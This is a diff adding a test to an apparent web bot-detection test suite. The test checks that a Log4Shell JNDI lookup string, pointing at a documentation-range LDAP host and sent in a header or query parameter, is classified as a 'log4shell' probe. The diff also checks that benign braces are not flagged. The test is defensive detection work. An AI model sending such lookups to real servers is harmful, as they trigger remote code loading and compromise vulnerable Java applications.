@@ -166,6 +166,16 @@ describe.each(Object.keys(frameworks))('%s', (name) => {
     expect(sink.visits[before]).toMatchObject({ response_status_code: 403, is_blocked: true, decision: { rule: 'deny-verification-failed', action: 'deny', report_only: false } });
   });
 
+  it('names a Log4Shell lookup sprayed over the other headers or the query, behind a browser User-Agent', async () => {
+    const sprayed = await get(`${app.url}/page`, BROWSER_UA, { 'x-api-version': '${jndi:ldap://198.51.100.7:1389/a}' });
+    expect(await sprayed.json()).toEqual({ result: 'not_verifiable', clientIp: '127.0.0.1', agent: 'probe:log4shell' });
+    // fetch percent-encodes the braces; the server's decoding is what counts.
+    const queried = await get(`${app.url}/page?q=\${jndi:ldap://198.51.100.7:1389/a}`, BROWSER_UA);
+    expect(await queried.json()).toEqual({ result: 'not_verifiable', clientIp: '127.0.0.1', agent: 'probe:log4shell' });
+    const plain = await get(`${app.url}/page?q={x}`, BROWSER_UA, { cookie: 'prefs={"a":1}' });
+    expect(await plain.json()).toEqual({ result: 'unknown_agent', clientIp: '127.0.0.1', agent: null });
+  });
+
   it('serves /robots.txt from the policy', async () => {
     const response = await get(`${app.url}/robots.txt`, BROWSER_UA);
     expect(response.status).toBe(200);
